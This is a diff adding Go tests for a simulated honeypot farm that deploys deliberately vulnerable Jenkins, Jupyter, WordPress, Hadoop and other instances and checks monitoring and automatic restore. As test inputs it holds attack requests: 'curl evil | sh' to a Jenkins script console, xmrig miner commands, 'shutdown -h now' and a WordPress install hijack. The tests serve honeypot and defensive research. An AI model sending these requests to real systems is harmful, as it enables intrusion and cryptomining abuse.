@@ -1,0 +1,250 @@
+package honeypot
+
+import (
+	"io"
+	"net/netip"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"mavscan/internal/eslite"
+	"mavscan/internal/httpsim"
+	"mavscan/internal/mav"
+	"mavscan/internal/simnet"
+	"mavscan/internal/simtime"
+)
+
+var start = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)
+
+func newFarm(t *testing.T) (*Farm, *simnet.Network, *simtime.Sim, *eslite.Store) {
+	t.Helper()
+	net := simnet.New()
+	sim := simtime.NewSim(start)
+	store := &eslite.Store{}
+	return NewFarm(net, sim, store), net, sim, store
+}
+
+func TestDeployAllCoversInScopeApps(t *testing.T) {
+	farm, net, _, _ := newFarm(t)
+	if err := farm.DeployAll(netip.MustParseAddr("10.30.0.10")); err != nil {
+		t.Fatal(err)
+	}
+	if got := len(farm.Honeypots()); got != 18 {
+		t.Fatalf("deployed %d honeypots, want 18", got)
+	}
+	for _, pot := range farm.Honeypots() {
+		if !pot.Instance.Vulnerable() {
+			t.Errorf("%s honeypot is not vulnerable", pot.App)
+		}
+		if err := net.ProbePort(pot.IP, pot.Port); err != nil {
+			t.Errorf("%s honeypot unreachable: %v", pot.App, err)
+		}
+		if _, ok := farm.ByIP(pot.IP); !ok {
+			t.Errorf("%s not indexed by IP", pot.App)
+		}
+	}
+}
+
+func TestDeployRejectsOutOfScope(t *testing.T) {
+	farm, _, _, _ := newFarm(t)
+	if _, err := farm.Deploy(mav.Ghost, netip.MustParseAddr("10.30.0.1")); err == nil {
+		t.Fatal("Ghost has no MAV; deploy must fail")
+	}
+}
+
+func postForm(t *testing.T, net *simnet.Network, src netip.Addr, u string, form url.Values) int {
+	t.Helper()
+	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: src, DisableKeepAlives: true})
+	resp, err := client.PostForm(u, form)
+	if err != nil {
+		t.Fatalf("POST %s: %v", u, err)
+	}
+	defer resp.Body.Close()
+	io.Copy(io.Discard, resp.Body)
+	return resp.StatusCode
+}
+
+func TestCompromiseIsMonitored(t *testing.T) {
+	farm, net, _, store := newFarm(t)
+	pot, err := farm.Deploy(mav.Jenkins, netip.MustParseAddr("10.30.0.1"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	src := netip.MustParseAddr("203.0.113.9")
+	code := postForm(t, net, src, "http://10.30.0.1:8080/scriptText", url.Values{"script": {"curl evil | sh"}})
+	if code != 200 {
+		t.Fatalf("exploit status %d", code)
+	}
+	// Packetbeat saw the HTTP POST including its body.
+	httpEvents := store.Search(eslite.Query{Type: "http", Match: map[string]string{"host": pot.IP.String()}})
+	if len(httpEvents) == 0 {
+		t.Fatal("no http events captured")
+	}
+	if !strings.Contains(httpEvents[0].Field("body"), "curl+evil") && !strings.Contains(httpEvents[0].Field("body"), "curl evil") {
+		t.Errorf("POST body not captured: %q", httpEvents[0].Field("body"))
+	}
+	// Auditbeat saw the command execution attributed to the source.
+	execEvents := store.Search(eslite.Query{Type: "exec", Match: map[string]string{"src": src.String()}})
+	if len(execEvents) != 1 || execEvents[0].Field("command") != "curl evil | sh" {
+		t.Fatalf("exec events: %v", execEvents)
+	}
+}
+
+func TestMinerTriggersDelayedRestore(t *testing.T) {
+	farm, net, sim, store := newFarm(t)
+	if _, err := farm.Deploy(mav.JupyterNotebook, netip.MustParseAddr("10.30.0.2")); err != nil {
+		t.Fatal(err)
+	}
+	src := netip.MustParseAddr("203.0.113.9")
+	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: src, DisableKeepAlives: true})
+	// Create terminal, then run a miner.
+	resp, err := client.Post("http://10.30.0.2:8888/api/terminals", "application/json", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	resp, err = client.Post("http://10.30.0.2:8888/api/terminals/1/input", "application/json",
+		strings.NewReader(`{"command": "./xmrig -o stratum+tcp://pool:4444"}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	pot := farm.Honeypots()[0]
+	if pot.Restores() != 0 {
+		t.Fatal("restore before detection delay")
+	}
+	sim.Advance(time.Hour) // past the 30-minute detection delay
+	if pot.Restores() != 1 {
+		t.Fatalf("restores = %d, want 1", pot.Restores())
+	}
+	if store.Count(eslite.Query{Type: "restore"}) != 1 {
+		t.Fatal("restore not logged centrally")
+	}
+}
+
+func TestVigilanteShutdownAndRecovery(t *testing.T) {
+	farm, net, sim, _ := newFarm(t)
+	pot, err := farm.Deploy(mav.JupyterLab, netip.MustParseAddr("10.30.0.3"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	src := netip.MustParseAddr("203.0.113.10")
+	client := httpsim.NewClient(net, httpsim.ClientOptions{SourceIP: src, DisableKeepAlives: true})
+	resp, err := client.Post("http://10.30.0.3:8888/api/terminals/1/input", "application/json",
+		strings.NewReader(`{"command": "shutdown -h now"}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	// Host goes down immediately...
+	if err := net.ProbePort(pot.IP, pot.Port); err == nil {
+		t.Fatal("host still up after shutdown")
+	}
+	// ...and availability monitoring brings it back.
+	sim.Advance(time.Hour)
+	if err := net.ProbePort(pot.IP, pot.Port); err != nil {
+		t.Fatalf("host not recovered: %v", err)
+	}
+}
+
+func TestTickerReArmsHijackedInstall(t *testing.T) {
+	farm, net, sim, _ := newFarm(t)
+	pot, err := farm.Deploy(mav.WordPress, netip.MustParseAddr("10.30.0.4"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	farm.StartTicker(15*time.Minute, start.Add(24*time.Hour))
+
+	src := netip.MustParseAddr("203.0.113.11")
+	code := postForm(t, net, src, "http://10.30.0.4:80/wp-admin/install.php?step=2",
+		url.Values{"user_name": {"admin"}, "admin_password": {"pwned"}})
+	if code != 200 {
+		t.Fatalf("install hijack status %d", code)
+	}
+	if pot.Instance.Vulnerable() {
+		t.Fatal("install consumed, should be invulnerable until restore")
+	}
+	sim.Advance(time.Hour)
+	if !pot.Instance.Vulnerable() {
+		t.Fatal("ticker did not re-arm the trust-on-first-use MAV")
+	}
+	if pot.Restores() == 0 {
+		t.Fatal("no restore recorded")
+	}
+}
+
+func TestSetupIsFirewalled(t *testing.T) {
+	// During Deploy the host must not be reachable; we can only verify
+	// the end state (unfirewalled) plus that the snapshot captured the
+	// armed state — the firewall window is internal to Deploy.
+	farm, net, _, _ := newFarm(t)
+	pot, err := farm.Deploy(mav.Grav, netip.MustParseAddr("10.30.0.5"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := net.ProbePort(pot.IP, pot.Port); err != nil {
+		t.Fatalf("honeypot not live after deploy: %v", err)
+	}
+	host, _ := net.Host(pot.IP)
+	if host.Firewalled() {
+		t.Fatal("firewall left enabled")
+	}
+}
+
+func TestResourceMonitorTripsOnCPUThreshold(t *testing.T) {
+	farm, net, sim, _ := newFarm(t)
+	pot, err := farm.Deploy(mav.Hadoop, netip.MustParseAddr("10.30.0.6"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	farm.StartTicker(15*time.Minute, start.Add(2*time.Hour))
+	client := httpsim.NewClient(net, httpsim.ClientOptions{
+		SourceIP: netip.MustParseAddr("203.0.113.12"), DisableKeepAlives: true,
+	})
+	resp, err := client.Post("http://10.30.0.6:8088/ws/v1/cluster/apps", "application/json",
+		strings.NewReader(`{"am-container-spec":{"commands":{"command":"./xmrig -o stratum+tcp://p:4444"}}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if pot.CPULoad() < 0.9 {
+		t.Fatalf("miner did not pin the CPU: %v", pot.CPULoad())
+	}
+	sim.Advance(16 * time.Minute) // one resource-monitor sample
+	if pot.Restores() != 1 {
+		t.Fatalf("restores = %d, want 1 (threshold trip)", pot.Restores())
+	}
+	if pot.CPULoad() != 0 {
+		t.Fatalf("restore did not reset the workload: %v", pot.CPULoad())
+	}
+	// The delayed fallback must not double-restore.
+	sim.Advance(time.Hour)
+	if pot.Restores() != 1 {
+		t.Fatalf("restores = %d after fallback, want still 1", pot.Restores())
+	}
+}
+
+func TestBenignCommandsDoNotTripMonitor(t *testing.T) {
+	farm, net, sim, _ := newFarm(t)
+	pot, err := farm.Deploy(mav.Zeppelin, netip.MustParseAddr("10.30.0.7"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	farm.StartTicker(15*time.Minute, start.Add(2*time.Hour))
+	client := httpsim.NewClient(net, httpsim.ClientOptions{
+		SourceIP: netip.MustParseAddr("203.0.113.13"), DisableKeepAlives: true,
+	})
+	resp, err := client.Post("http://10.30.0.7:8080/api/notebook", "application/json",
+		strings.NewReader(`{"name":"n","paragraphs":[{"text":"%sh uname -a"}]}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	sim.Advance(2 * time.Hour)
+	if pot.Restores() != 0 {
+		t.Fatalf("benign command triggered %d restores", pot.Restores())
+	}
+}
